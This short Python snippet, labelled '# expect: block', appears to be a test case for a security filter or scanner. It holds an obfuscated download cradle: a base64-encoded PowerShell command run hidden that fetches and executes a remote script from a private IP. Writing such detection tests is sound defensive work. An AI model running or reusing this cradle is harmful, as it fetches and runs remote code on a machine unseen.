# expect: block
import subprocess, base64
ps = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')".encode("utf-16le")).decode()
subprocess.run(["powershell", "-NoP", "-W", "Hidden", "-enc", ps])
